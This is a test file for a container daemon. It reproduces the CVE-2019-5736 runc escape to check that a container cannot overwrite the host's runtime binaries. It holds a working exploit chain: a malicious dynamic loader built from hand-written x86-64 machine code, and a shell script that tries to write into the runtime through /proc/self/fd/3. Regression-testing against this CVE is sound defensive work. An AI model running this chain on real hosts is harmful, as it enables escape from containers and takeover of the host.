import { afterAll, afterEach, beforeAll, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { missingFixes } from "../../src/core/runtime/advisories.ts";
import { elf } from "../../src/core/runtime/testdata/elf.ts";
import { eventually, TestDaemon, tugBinary } from "../harness/daemon.ts";

/**
 * CVE-2019-5736. An entrypoint of `#!/proc/self/exe` makes the kernel start the runtime's own program inside the container, and the
 * image brings the dynamic loader that the program asks for: code of the attacker in the runtime's process. That opens
 * /proc/self/exe, becomes another program, so that the file is no longer busy, and writes through the descriptor.
 */
const loader = () => {
  const open = "b802000000 488d3d20000000 31f6 0f05";
  const execute = "b83b000000 488d3d1f000000 31d2 52 57 4889e6 0f05";
  const exit = "b83c000000 0f05";
  const text = Buffer.from("/proc/self/exe\0/attack\0").toString("hex");
  // Where no program lies that asks for it.
  return elf(64, open + execute + exit + text, 0x10000000);
};
const attack = `#!/bin/sh
exec 2>>/refused
fd=/proc/self/fd/3
echo "reached $(readlink $fd) of $(wc -c <$fd) bytes" >>/reached
for try in 1 2; do
  echo owned >$fd && echo "writing worked" >>/written
  echo owned >>$fd && echo "appending worked" >>/written
  echo owned | dd of=$fd conv=notrunc && echo "overwriting worked" >>/written
done
`;

let daemon: TestDaemon;
beforeAll(async () => {
  daemon = await TestDaemon.start();
}, 120_000);
afterEach(() => daemon.assertClean());
afterAll(() => daemon.close());

const programs = ["crun", "runc", "conmon"].map((name) => Bun.which(name) ?? `/usr/bin/${name}`);
const originals = new Map(programs.map((path) => [path, readFileSync(path)]));
afterEach(() => {
  // A machine on which the attack works shall not keep what it did.
  for (const [path, bytes] of originals) if (!readFileSync(path).equals(bytes)) writeFileSync(path, bytes);
});

const hashes = () =>
  [...programs, tugBinary].map(
    (path) => `${path} ${createHash("sha256").update(readFileSync(path)).digest("hex")}`,
  );

/** Puts files into a container, with modes. */
async function put(container: string, files: Record<string, string | Uint8Array>): Promise<void> {
  for (const [path, content] of Object.entries(files)) {
    const input = typeof content === "string" ? Buffer.from(content) : content;
    await daemon.ok(
      ["exec", "-i", container, "sh", "-c", `mkdir -p $(dirname ${path}); cat >${path}; chmod 755 ${path}`],
      {
        input,
      },
    );
  }
}

const supported = process.arch === "x64";
if (!supported) console.log("skipped: the attacker's loader is machine code for x86-64");

for (const runtime of ["crun", "runc"]) {
  test.skipIf(!supported)(
    `a container cannot write to the program that starts it or enters it (${runtime})`,
    async () => {
      const before = hashes();
      await daemon.ok([
        "run",
        "-d",
        "--runtime",
        runtime,
        "--network",
        "none",
        "--name",
        "evil",
        "busybox",
        "sleep",
        "1000",
      ]);
      const files = {
        "/lib64/ld-linux-x86-64.so.2": loader(),
        "/attack": attack,
        "/bad": "#!/proc/self/exe\n",
      };
      await put("evil", files);
      for (let i = 0; i < 3; i++) {
        await daemon.tug(["exec", "evil", "/bad"]);
        await daemon.tug(["exec", "-it", "-w", "/proc/self", "evil", "./exe"]);
      }
      const reached = await daemon.ok([
        "exec",
        "evil",
        "sh",
        "-c",
        "cat /reached; echo; cat /written 2>/dev/null; true",
      ]);
      // The attack itself went as planned: its code ran in place of the runtime's.
      expect(reached).toMatch(/reached .* of \d{5,} bytes/);
      expect(reached).not.toContain("worked");
      expect(hashes()).toEqual(before);
      // Whatever took the bytes was not what is started next.
      expect(await daemon.ok(["exec", "evil", "echo", "fine"])).toBe("fine");

      // The same as what an image starts with.
      await daemon.ok(["commit", "-c", 'ENTRYPOINT ["/bad"]', "evil", "evil:image"]);
      await daemon.tug(["run", "--name", "first", "--runtime", runtime, "--network", "none", "evil:image"]);
      await daemon.tug([
        "run",
        "--name",
        "caps",
        "--runtime",
        runtime,
        "--network",
        "none",
        "--cap-add",
        "ALL",
        "evil:image",
      ]);
      expect(hashes()).toEqual(before);
      expect(await daemon.ok(["run", "--rm", "--runtime", runtime, "busybox", "echo", "fine"])).toBe("fine");
      await daemon.assertClean();
      await daemon.ok(["rmi", "evil:image"]);
    },
    120_000,
  );
}

test("a daemon whose runtime is older than known fixes says so when it starts", async () => {
  const version = /version (\S+)/.exec(Bun.spawnSync(["crun", "--version"]).stdout.toString())?.[1] ?? "";
  const sentence = missingFixes("crun", version);
  if (sentence === undefined) console.log(`skipped: crun ${version} has all known fixes`);
  else await eventually("the warning", () => daemon.log.includes(sentence));
});
